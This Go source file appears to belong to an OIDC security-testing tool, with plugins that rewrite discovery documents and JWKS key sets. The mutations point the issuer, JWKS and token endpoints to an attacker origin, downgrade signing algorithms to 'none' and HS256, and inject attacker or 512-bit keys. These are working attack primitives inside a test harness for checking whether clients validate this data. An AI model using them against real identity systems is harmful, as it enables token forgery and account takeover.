package plugins

import (
	"context"
	"crypto/rand"
	"crypto/rsa"
	"encoding/json"
	"fmt"

	"github.com/lestrrat-go/jwx/v3/jwk"

	"github.com/lokisec/loki/pkg/mischief"
)

// DiscoveryConfusion rewrites the OIDC discovery document so clients bind to
// attacker-controlled endpoints or weakened algorithm sets.
func DiscoveryConfusion() *mischief.Plugin {
	return &mischief.Plugin{
		ID:          "discovery-confusion",
		Name:        "Discovery Confusion",
		Description: "Mutates the OIDC discovery document endpoints, algorithms or required fields",
		Severity:    mischief.SeverityCritical,
		Phase:       mischief.PhaseDiscovery,
		Spec: mischief.SpecRef{
			OIDC:        "OIDC Discovery 1.0 Section 3",
			CWE:         "CWE-346",
			Description: "Clients must validate the discovery document issuer and required metadata",
		},
		Apply: func(_ context.Context, mc mischief.Context) (mischief.Result, error) {
			dc, ok := discoveryCtx(mc)
			if !ok {
				return mischief.Skipped("no discovery document in context"), nil
			}

			doc := dc.Document
			mode := stringOpt(mc, "mode", "issuer-mismatch")
			evidence := map[string]any{"mode": mode}

			switch mode {
			case "issuer-mismatch":
				evidence["before"] = doc["issuer"]
				doc["issuer"] = attackerOrigin
				evidence["after"] = attackerOrigin
			case "malicious-jwks":
				evidence["before"] = doc["jwks_uri"]
				doc["jwks_uri"] = attackerOrigin + "/jwks"
				evidence["after"] = doc["jwks_uri"]
			case "malicious-token":
				evidence["before"] = doc["token_endpoint"]
				doc["token_endpoint"] = attackerOrigin + "/token"
				evidence["after"] = doc["token_endpoint"]
			case "weak-algorithms":
				evidence["before"] = doc["id_token_signing_alg_values_supported"]
				weak := []any{"none", "HS256"}
				doc["id_token_signing_alg_values_supported"] = weak
				evidence["after"] = weak
			case "remove-required":
				removed := []string{"jwks_uri", "response_types_supported", "subject_types_supported"}
				for _, field := range removed {
					delete(doc, field)
				}
				evidence["removed_fields"] = removed
			default:
				return unknownMode(mode), nil
			}

			return applied(fmt.Sprintf("mutated discovery document (%s)", mode), evidence), nil
		},
	}
}

// JWKSInjection tampers with the published key set.
func JWKSInjection() *mischief.Plugin {
	return &mischief.Plugin{
		ID:          "jwks-injection",
		Name:        "JWKS Injection",
		Description: "Injects, empties, malformes or weakens the published JWKS",
		Severity:    mischief.SeverityCritical,
		Phase:       mischief.PhaseDiscovery,
		Spec: mischief.SpecRef{
			RFC:         "RFC 7517 Section 5",
			CWE:         "CWE-321",
			Description: "Clients must not trust unexpected keys appearing in a JWKS document",
		},
		Apply: func(_ context.Context, mc mischief.Context) (mischief.Result, error) {
			dc, ok := discoveryCtx(mc)
			if !ok {
				return mischief.Skipped("no JWKS document in context"), nil
			}

			doc := dc.Document
			keys, _ := doc["keys"].([]any)
			mode := stringOpt(mc, "mode", "inject-key")
			evidence := map[string]any{"mode": mode, "original_key_count": len(keys)}

			switch mode {
			case "inject-key":
				attacker, err := generateRSAJWKMap(2048, "attacker-key")
				if err != nil {
					return mischief.Skipped("attacker key generation failed: " + err.Error()), nil
				}
				doc["keys"] = append(keys, attacker)
				evidence["injected_kid"] = "attacker-key"
			case "empty":
				doc["keys"] = []any{}
				evidence["new_key_count"] = 0
			case "malformed":
				if len(keys) == 0 {
					return mischief.Skipped("no keys to malform"), nil
				}
				first, ok := keys[0].(map[string]any)
				if !ok {
					return mischief.Skipped("first key is not an object"), nil
				}
				sub := stringOpt(mc, "malform", "truncate-n")
				switch sub {
				case "truncate-n":
					if n, ok := first["n"].(string); ok && len(n) > 1 {
						first["n"] = n[:len(n)/2]
					}
				case "remove-kty":
					delete(first, "kty")
				case "invalid-base64":
					first["n"] = "!!!not-base64url!!!"
				default:
					return unknownMode(sub), nil
				}
				evidence["malform"] = sub
			case "wrong-use":
				if len(keys) == 0 {
					return mischief.Skipped("no keys to flip"), nil
				}
				first, ok := keys[0].(map[string]any)
				if !ok {
					return mischief.Skipped("first key is not an object"), nil
				}
				before, _ := first["use"].(string)
				if before == "enc" {
					first["use"] = "sig"
				} else {
					first["use"] = "enc"
				}
				evidence["before_use"] = before
				evidence["after_use"] = first["use"]
			case "weak-key":
				weak, err := generateRSAJWKMap(512, "weak-key")
				if err != nil {
					return mischief.Skipped("weak key generation failed: " + err.Error()), nil
				}
				doc["keys"] = []any{weak}
				evidence["key_bits"] = 512
			default:
				return unknownMode(mode), nil
			}

			return applied(fmt.Sprintf("tampered with JWKS (%s)", mode), evidence), nil
		},
	}
}

// generateRSAJWKMap creates a fresh RSA public JWK of the given size as a
// plain JSON object ready for insertion into a keys array.
func generateRSAJWKMap(bits int, kid string) (map[string]any, error) {
	private, err := rsa.GenerateKey(rand.Reader, bits)
	if err != nil {
		return nil, fmt.Errorf("generating RSA key: %w", err)
	}

	key, err := jwk.Import(&private.PublicKey)
	if err != nil {
		return nil, fmt.Errorf("importing public key: %w", err)
	}
	if err := key.Set(jwk.KeyIDKey, kid); err != nil {
		return nil, err
	}
	if err := key.Set(jwk.KeyUsageKey, "sig"); err != nil {
		return nil, err
	}
	if err := key.Set(jwk.AlgorithmKey, "RS256"); err != nil {
		return nil, err
	}

	data, err := json.Marshal(key)
	if err != nil {
		return nil, fmt.Errorf("marshaling JWK: %w", err)
	}
	var out map[string]any
	if err := json.Unmarshal(data, &out); err != nil {
		return nil, err
	}
	return out, nil
}
